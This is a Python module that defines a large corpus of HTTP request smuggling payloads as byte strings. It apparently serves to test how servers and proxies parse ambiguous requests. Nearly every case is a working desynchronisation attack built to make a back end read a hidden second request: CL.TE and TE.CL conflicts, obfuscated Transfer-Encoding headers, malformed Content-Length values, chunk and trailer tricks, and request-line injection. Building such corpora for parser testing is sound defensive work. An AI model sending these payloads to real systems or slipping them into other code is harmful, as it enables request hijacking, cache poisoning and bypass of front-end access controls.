"""Requests that two servers may read differently: the corpus, as data, in our own words.

Each is what one caller sends on one connection, wanting a loose back end to see a second request, `HIDDEN`. A case is
written for any target; `{target}` is put in. The techniques are those of RFC 9112 (sections 2.2, 3.2, 5.1, 6.1, 6.3,
7.1, 11.2) read as a list of what not to do, and of public write-ups of desynchronisation.
"""

from __future__ import annotations

from typing import Final

HIDDEN: Final = b"GET /hidden HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Nonce: stolen\r\n\r\n"

_ENDED: Final = b"0\r\n\r\n" + HIDDEN
"""Ends a chunked body, for whoever reads chunks; the rest is a body by length, for whoever counts."""
_COUNTED: Final = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
"""One chunk that holds it."""


def _post(*lines: bytes, body: bytes = b"", first: bytes = b"POST {target} HTTP/1.1") -> bytes:
    head = [first, b"Host: 127.0.0.1", b"Content-Type: application/json", b"X-Nonce: own", *lines]
    return b"\r\n".join(head) + b"\r\n\r\n" + body


def _length(extra: int = 0) -> bytes:
    return b"Content-Length: %d" % (len(_ENDED) + extra)


_CHUNKED: Final = b"Transfer-Encoding: chunked"

_CODINGS: Final = {
    "xchunked": b"xchunked",
    "identity": b"identity",
    "identity, chunked": b"identity, chunked",
    "chunked, identity": b"chunked, identity",
    "gzip, chunked": b"gzip, chunked",
    "chunked, chunked": b"chunked, chunked",
    ", chunked": b", chunked",
    "chunked,": b"chunked,",
    "chunked;q=1": b"chunked;q=1",
    "quoted": b'"chunked"',
    "behind a tab": b"\tchunked",
    "before a tab": b"chunked\t",
    "behind a vertical tab": b"\x0bchunked",
    "before a form feed": b"chunked\x0c",
    "behind a NUL": b"\x00chunked",
    "before a NUL": b"chunked\x00",
    "in capitals": b"CHUNKED",
    "behind a no-break space": b"\xa0chunked",
    "cow": b"cow",
    "empty": b"",
}
_NAMES: Final = {
    "a blank before the colon": b"Transfer-Encoding : chunked",
    "a tab before the colon": b"Transfer-Encoding\t: chunked",
    "an underscore": b"Transfer_Encoding: chunked",
    "a dot": b"Transfer.Encoding: chunked",
    "a tilde behind the name": b"Transfer-Encoding~: chunked",
    "a blank in front": b" Transfer-Encoding: chunked",
    "a tab in front": b"\tTransfer-Encoding: chunked",
    "a NUL in the name": b"Transfer\x00-Encoding: chunked",
    "a NUL behind the name": b"Transfer-Encoding\x00: chunked",
    "a vertical tab in front": b"\x0bTransfer-Encoding: chunked",
    "a high byte in the name": b"Transfer-Encoding\xff: chunked",
    "a slash in the name": b"Transfer/-Encoding: chunked",
    "a quote in the name": b'"Transfer-Encoding": chunked',
    "no colon": b"Transfer-Encoding chunked",
    "no blank behind the colon": b"Transfer-Encoding:chunked",
    "a bare LF before it": b"X: y\nTransfer-Encoding: chunked",
    "a bare CR before it": b"X: y\rTransfer-Encoding: chunked",
    "a folded value": b"Transfer-Encoding:\r\n chunked",
    "folded behind another": b"X: y\r\n Transfer-Encoding: chunked",
    "a name of blanks": b" : chunked",
}
_LENGTHS: Final = {
    "twice, the same": b"Content-Length: 5\r\nContent-Length: 5",
    "twice, first short": b"Content-Length: 5\r\n" + _length(),
    "twice, last short": _length() + b"\r\nContent-Length: 5",
    "a list": b"Content-Length: 5, %d" % len(_ENDED),
    "a list of the same": b"Content-Length: 5, 5",
    "a plus": b"Content-Length: +5",
    "a minus": b"Content-Length: -5",
    "an underscore in it": b"Content-Length: 1_0",
    "hexadecimal": b"Content-Length: 0x5",
    "a fraction": b"Content-Length: 5.0",
    "an exponent": b"Content-Length: 5e0",
    "leading zeros": b"Content-Length: 0000000000005",
    "a blank inside": b"Content-Length: 5 0",
    "empty": b"Content-Length:",
    "a word": b"Content-Length: five",
    "beyond 2^32": b"Content-Length: 4294967301",
    "beyond 2^64": b"Content-Length: 18446744073709551621",
    "quoted": b'Content-Length: "5"',
    "a NUL behind": b"Content-Length: 5\x00",
    "a vertical tab before": b"Content-Length: \x0b5",
    "a blank before the colon": b"Content-Length : 5",
    "an underscore in the name": b"Content_Length: 5",
    "a dot in the name, none beside": b"Content.Length: 5\r\nContent-Length: 0",
    "folded": b"Content-Length:\r\n 5",
    "none, with a body": b"X: y",
}
_CHUNKS: Final = {
    "no size": b"\r\nhello\r\n" + _ENDED,
    "a plus": b"+5\r\nhello\r\n" + _ENDED,
    "a minus": b"-5\r\nhello\r\n" + _ENDED,
    "0x": b"0x5\r\nhello\r\n" + _ENDED,
    "an underscore": b"0_5\r\nhello\r\n" + _ENDED,
    "a blank before": b" 5\r\nhello\r\n" + _ENDED,
    "a blank behind": b"5 \r\nhello\r\n" + _COUNTED,
    "beyond 2^32": b"100000005\r\nhello\r\n" + _ENDED,
    "beyond 2^64": b"10000000000000005\r\nhello\r\n" + _ENDED,
    "zero beyond 2^32": b"100000000\r\n\r\n" + HIDDEN,
    "leading zeros": b"%032x\r\nhello\r\n" % 5 + _ENDED,
    "longer than said": b"3\r\nhello\r\n" + _ENDED,
    "shorter than said": b"9\r\nhello\r\n" + _ENDED,
    "an end in LF": b"5\nhello\n0\n\n" + HIDDEN,
    "an end in CR": b"5\rhello\r0\r\r" + HIDDEN,
    "no end behind the data": b"5\r\nhello0\r\n\r\n" + HIDDEN,
    "two ends behind the data": b"5\r\nhello\r\n\r\n" + _ENDED,
    "an extension": b"5;a=b\r\nhello\r\n" + _COUNTED,
    "an extension with an LF": b"5;a=\nb\r\nhello\r\n" + _ENDED,
    "an extension with a CR": b"5;a=\rb\r\nhello\r\n" + _ENDED,
    "an extension that hides an end": b'5;a="\r\nhello\r\n0\r\n\r\n"\r\n' + _ENDED,
    "an extension that is a request": b"5;" + HIDDEN.replace(b"\r\n", b" ") + b"\r\nhello\r\n0\r\n\r\n",
    "an extension with a NUL": b"5;\x00\r\nhello\r\n" + _ENDED,
    "a last chunk of many zeros": b"5\r\nhello\r\n0000\r\n\r\n",
    "a trailer": b"5\r\nhello\r\n0\r\nX: y\r\n\r\n",
    "a trailer with a length": b"5\r\nhello\r\n0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
    "a trailer with a coding": b"5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "a trailer with a host": b"5\r\nhello\r\n0\r\nHost: other\r\nX-Nonce: stolen\r\n\r\n",
    "a trailer that is a request": b"5\r\nhello\r\n0\r\n" + HIDDEN,
    "a trailer that is folded": b"5\r\nhello\r\n0\r\nX: y\r\n " + HIDDEN,
    "a trailer with an LF": b"5\r\nhello\r\n0\r\nX: y\n\n" + HIDDEN,
    "an end without its last line": b"5\r\nhello\r\n0\r\n" + b"X",
    "a chunk that holds it": _COUNTED,
}
_TARGETS: Final = {
    "a blank in the target": b"POST {target}?a b HTTP/1.1",
    "a tab in the target": b"POST {target}?a\tb HTTP/1.1",
    "a CR in the target": b"POST {target}?a\rb HTTP/1.1",
    "an LF in the target": b"POST {target}?a\nb HTTP/1.1",
    "an encoded CRLF in the query": b"POST {target}?a=%0d%0aX:%20y HTTP/1.1",
    "an encoded CRLF in the path": b"POST {target}/%0d%0aGET%20/hidden HTTP/1.1",
    "one more request": b"POST {target}?a HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Nonce: own\r\n\r\nGET /hidden HTTP/1.1",
    "a fragment": b"POST {target}?#/hidden HTTP/1.1",
    "another host": b"POST http://other{target} HTTP/1.1",
    "an authority": b"CONNECT other:443 HTTP/1.1",
    "an asterisk": b"OPTIONS * HTTP/1.1",
    "HTTP/0.9": b"GET {target}",
    "HTTP/1.2": b"POST {target} HTTP/1.2",
    "HTTP/2.0": b"POST {target} HTTP/2.0",
    "HTTP/1.1 and more": b"POST {target} HTTP/1.1 x",
    "http/1.1": b"POST {target} http/1.1",
    "a method in lower case": b"post {target} HTTP/1.1",
    "a method with a NUL": b"PO\x00ST {target} HTTP/1.1",
    "several blanks": b"POST  {target}   HTTP/1.1",
    "a high byte in the target": b"POST {target}?\xe2\x80\xa8 HTTP/1.1",
}

CASES: Final[dict[str, bytes]] = {
    "CL.TE": _post(_length(), _CHUNKED, body=_ENDED),
    "TE.CL": _post(_CHUNKED, b"Content-Length: 5", body=_COUNTED),
    "CL.TE, in HTTP/1.0": _post(_length(), _CHUNKED, body=_ENDED, first=b"POST {target} HTTP/1.0"),
    "TE, in HTTP/1.0": _post(_CHUNKED, body=_ENDED, first=b"POST {target} HTTP/1.0"),
    "TE twice": _post(_CHUNKED, _CHUNKED, body=_ENDED),
    "TE twice, cow last": _post(_CHUNKED, b"Transfer-Encoding: cow", body=_ENDED),
    "TE twice, cow first": _post(b"Transfer-Encoding: cow", _CHUNKED, body=_ENDED),
    "CL.0": _post(b"Content-Length: 0", body=HIDDEN),
    "a GET with a body": _post(_length(), body=_ENDED, first=b"GET {target} HTTP/1.1"),
    "a HEAD with a body": _post(_length(), body=_ENDED, first=b"HEAD {target} HTTP/1.1"),
    "Connection names the length": _post(_length(), b"Connection: content-length", body=_ENDED),
    "Connection names the coding": _post(_CHUNKED, b"Connection: transfer-encoding", body=_COUNTED),
    "Expect that nobody knows": _post(_length(), b"Expect: 200-ok", body=_ENDED),
    "Expect, the body sent at once": _post(_length(), b"Expect: 100-continue", body=_ENDED),
    "an upgrade to h2c": _post(_length(), b"Connection: upgrade", b"Upgrade: h2c", body=_ENDED),
    "an upgrade, chunked": _post(_CHUNKED, b"Connection: upgrade", b"Upgrade: h2c", body=_COUNTED),
    "two hosts": _post(b"Host: other", b"Content-Length: 0"),
    "a head that ends in LF": _post(b"Content-Length: 0").replace(b"\r\n", b"\n"),
    "a head whose last line ends in LF": _post(b"Content-Length: 0")[:-2] + b"\n" + HIDDEN,
    "a blank line of blanks": _post(b"Content-Length: 0")[:-2] + b" \r\n" + HIDDEN,
    "a NUL behind the head": _post(b"Content-Length: 0") + b"\x00" + HIDDEN,
    "a method override": _post(_length(), b"X-HTTP-Method-Override: GET", body=_ENDED),
    **{f"TE {name}": _post(_length(), b"Transfer-Encoding: " + how, body=_ENDED) for name, how in _CODINGS.items()},
    **{f"TE {name}, alone": _post(b"Transfer-Encoding: " + how, body=_ENDED) for name, how in _CODINGS.items()},
    **{f"TE, {name}": _post(_length(), line, body=_ENDED) for name, line in _NAMES.items()},
    **{f"CL {name}": _post(line, body=_ENDED) for name, line in _LENGTHS.items()},
    **{f"chunk: {name}": _post(_CHUNKED, body=body) for name, body in _CHUNKS.items()},
    **{f"target: {name}": _post(_length(), body=_ENDED, first=first) for name, first in _TARGETS.items()},
}
